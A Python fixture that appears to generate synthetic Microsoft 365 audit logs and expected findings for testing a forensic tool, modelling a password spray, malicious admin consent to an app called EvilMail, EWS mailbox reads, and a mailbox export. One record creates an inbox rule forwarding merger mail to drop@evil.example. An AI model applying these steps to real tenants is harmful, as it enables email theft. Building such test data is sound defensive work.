"""Spray, consent, EWS: a company read by an application, November 2023 to January
2024.  Nothing here comes from the program's output.

test    the forgotten account; only the log knows its mailbox
exec, legal, security   EML folders, read by the application
"""
import truth
from mail import Message
from ual import (OWA, Record, as_json, bind, cmdlet, folder_id, guid,
                 item_record, purview_row, sign_in, HEADER)

DOMAIN = "corp.example"
EXEC, LEGAL, SECURITY, TEST = ("%s@corp.example" % n for n in (
    "exec", "legal", "security", "svc-test"))
MAILBOXES = (EXEC, LEGAL, SECURITY)
EVIL = "c0ffee00-5ca1-4e57-8bad-00000000ca5e"
SPRAY = "2001:db8:bad:1::7"
PROXY = "203.0.113.90"
T1 = "7e570000-1111-4000-8000-000000000001"
FIRST, LAST = "2023-11-20T08:00:00Z", "2024-01-15T08:00:01Z"
COUNTERS = {"Inbox": 0x10c, "Sent Items": 0x109, "Inbox/Sub": 0x2001,
            "Board": 0x2002}
NOTIFIED, FINDINGS = [], []
LOG = True
PLAIN = "Hello,\n\nplease find the notes of the last call below.\n"


def mid(name):
    return "<%s@mail.corp.example>" % name


def named(mailbox, folder, *names):
    return (folder, folder_id(mailbox, folder, COUNTERS[folder]),
            [(mid(n), None) for n in names])


def app_read(name, time, mailbox, *items):
    """The application itself: UserType 5, its own id as the user, no session."""
    return bind(name, time, EVIL, mailbox, list(items), None) \
        .client_of("2001:db8:40::" + "%x" % (int(time[8:10]) + 16),
                   "Client=WebServices;EvilMail/1.0;", OWA, EVIL) \
        .set(UserType=5, LogonUserSid="S-1-5-18-5") \
        .by("adversary")


def all_messages():
    def m(name, mailbox, folder, sent, subject, **more):
        more.setdefault("text", PLAIN)
        return Message(name, mailbox, folder, sent, subject,
                       more.pop("sender", "Ivo Brandt <ivo@outside.example>"),
                       ["%s <%s>" % (mailbox.partition("@")[0].title(),
                                     mailbox)], message_id=mid(
                                         more.pop("known_as", name)),
                       **more).expect("not_shown")

    rule = dict(records=["r-rule"], sessions=[])
    export = dict(first="2023-12-18T09:00:00Z", last="2023-12-18T09:00:00Z",
                  records=["x-export"], sessions=["X"])
    return [
        m("x1", EXEC, "Inbox", "2023-12-01T10:00:00", "Strategy")
        .expect("accessed", "R1", "2023-12-04T03:00:00Z",
                "2023-12-04T03:02:00Z", ["a-exec"], ["X"]),
        m("x2", EXEC, "Board", "2023-12-02T10:00:00", "Minutes of the board")
        .expect("accessed", "R1s", "2023-12-05T01:02:03Z",
                "2023-12-05T01:02:03Z"),
        m("x3", EXEC, "Inbox", "2023-12-20T10:00:00", "Season's greetings"),
        m("x4", EXEC, "Inbox", "2024-01-14T10:00:00", "After the window"),
        # On the list and in the log: both rules, the times of both.
        m("x5", EXEC, "Inbox", "2023-12-03T10:00:00", "Draft of the filing")
        .expect("accessed", "R1 R1s", "2023-12-04T03:00:00Z",
                "2023-12-06T00:00:00Z", ["a-exec"], ["X"]),

        m("l1", LEGAL, "Inbox", "2023-12-08T10:00:00", "Merger terms")
        .expect("taken", "R4", "2023-12-08T10:00:00Z", "2023-12-08T10:00:00Z",
                ["r-rule"], ["X"]),
        m("l2", LEGAL, "Inbox", "2023-12-16T10:00:00", "Re: Merger terms"),
        m("l3", LEGAL, "Inbox", "2023-12-09T10:00:00", "Parking"),
        m("l4", LEGAL, "Inbox", "2023-12-02T11:00:00", "Opinion")
        .expect("accessed", "R1", "2023-12-07T03:00:00Z",
                "2023-12-07T03:02:00Z", ["a-legal"], ["X"]),
        # Stolen from exec, whose evidence has it no more: this copy stands in.
        m("l5", LEGAL, "Inbox", "2023-12-02T12:00:00", "Filing, for comments")
        .expect("accessed", "R1c", flags=["stand_in"]),
        m("l6", LEGAL, "Sent Items", "2023-12-10T10:00:00",
          "Merger terms, our view", received=None,
          sender="Legal <legal@corp.example>"),

        m("s1", SECURITY, "Inbox", "2023-12-11T10:00:00", "Scan results")
        .expect("taken", "R5", **export),
        # Subfolders are exported only where the list says so.
        m("s2", SECURITY, "Inbox/Sub", "2023-12-11T11:00:00", "Older scans"),
        m("s3", SECURITY, "Inbox", "2023-12-19T10:00:00", "After the export"),
        m("s4", SECURITY, "Inbox", "2023-12-12T10:00:00", "Vault rotation")
        .expect("accessed", "R1 R5", "2023-12-13T03:00:00Z",
                "2023-12-13T03:02:00Z", ["a-security"], ["X"]),
    ]


def directory(name, time, operation, target, changes):
    """RecordType 8: consents, grants, applications."""
    r = Record(name, time, operation, 8, TEST)
    r.ip, r.session = PROXY, None
    return r.set(ClientIP=PROXY, ObjectId=EVIL, ResultStatus="Success",
                 Target=[{"ID": target, "Type": 1}, {"ID": EVIL, "Type": 2}],
                 ModifiedProperties=[{"Name": k, "NewValue": v, "OldValue": ""}
                                     for k, v in changes])


def all_records():
    records = []
    # A year-old test account gives way after eleven tries over six users.
    users = ["anna", "ben", "cleo", "svc-test", "dan", "ed"]
    for i in range(11):
        r = sign_in("spray-%02d" % i, "2023-11-28T02:%02d:00" % (2 * i),
                    users[i % 6] + "@corp.example", SPRAY, failed=True)
        r.mailbox = ""
        records.append(r.by("adversary"))
    records += [
        sign_in("spray-in", "2023-11-28T02:30:00", TEST, SPRAY, T1)
        .by("adversary").of(""),        # no record of a mailbox of its own
        directory("add-sp", "2023-12-01T02:00:00", "Add service principal.",
                  "EvilMail", [("AppAddress", "[]")]).by("adversary"),
        directory("consent", "2023-12-01T02:05:00",
                  "Consent to application.", "EvilMail",
                  [("ConsentContext.IsAdminConsent", "True"),
                   ("ConsentAction.Permissions",
                    "[] => [[Id: 1, ConsentType: AllPrincipals, Scope: "
                    "full_access_as_app EWS.AccessAsUser.All]]")])
        .by("adversary"),
        directory("role", "2023-12-01T02:06:00",
                  "Add app role assignment to service principal.", "EvilMail",
                  [("AppRole.Value", "full_access_as_app")]).by("adversary"),
        app_read("a-exec", "2023-12-04T03:00:00", EXEC,
                 named(EXEC, "Inbox", "x1", "x5", "x-gone")),
        app_read("a-legal", "2023-12-07T03:00:00", LEGAL,
                 named(LEGAL, "Inbox", "l4")),
        app_read("a-security", "2023-12-13T03:00:00", SECURITY,
                 named(SECURITY, "Inbox", "s4")),
        cmdlet("r-rule", "2023-12-07T04:00:00", TEST, "New-InboxRule",
               PROXY + ":40112",
               [("Mailbox", LEGAL), ("Name", "."),
                ("SubjectContainsWords", "merger;acquisition"),
                ("ForwardTo", "drop@evil.example")]).by("adversary"),
        cmdlet("r-removed", "2023-12-15T09:00:00", LEGAL, "Remove-InboxRule",
               "192.0.2.20:50111", [("Identity", "."), ("Mailbox", LEGAL)])
        .by("known"),
        cmdlet("x-export", "2023-12-18T09:00:00", TEST,
               "New-MailboxExportRequest", PROXY + ":40113",
               [("Mailbox", SECURITY), ("IncludeFolders", "#Inbox#"),
                ("FilePath", "\\\\server\\share\\s.pst")]).by("adversary"),
    ]
    # The owners read every day, from the office: coverage without a gap.
    for day in range(57):
        date = truth.after("2023-11-20T08:00:00", day * 86400)[:-1]
        for mailbox, item in ((EXEC, "x-old"), (LEGAL, "l-old"),
                              (SECURITY, "s-old")):
            box = mailbox.partition("@")[0]
            records.append(bind("own-%s-%02d" % (box, day), date, mailbox,
                                mailbox, [named(mailbox, "Inbox", item)])
                           .client_of("192.0.2.20", "Client=OWA;"
                                      "Action=ViaProxy", OWA)
                           .in_session(guid("session " + box)).by("known"))
    for r in records:       # what the tables of cmdlets and exports show
        if r.operation == "New-MailboxExportRequest":
            r.access_type, r.mailbox = "export", SECURITY
        if "InboxRule" in r.operation:
            r.mailbox = LEGAL
    return records


def log_files():
    records = sorted(all_records(), key=lambda r: (r.time, r.id))
    early = [r for r in records if r.time < "2023-12-10"]
    late = [r for r in records if r.time >= "2023-12-10"]
    yield "audit/autumn.csv", "\r\n".join(
        [HEADER] + [purview_row(r) for r in early]) + "\r\n"
    yield "audit/winter.jsonl", "\n".join(as_json(r) for r in late) + "\n"


def coverage_rows():
    for mailbox in MAILBOXES:
        yield (mailbox, "", FIRST, "outside")
        yield (mailbox, FIRST, LAST, "covered")
        yield (mailbox, LAST, "", "outside")


def missing_rows():
    yield (EXEC, mid("x-gone"), "Inbox", "2023-12-04T03:00:00Z",
           "2023-12-04T03:02:00Z", truth.record_ids(["a-exec"]), 0)
    yield (EXEC, mid("l5"), "", "", "", "", 1)


def problem_rows():
    return []
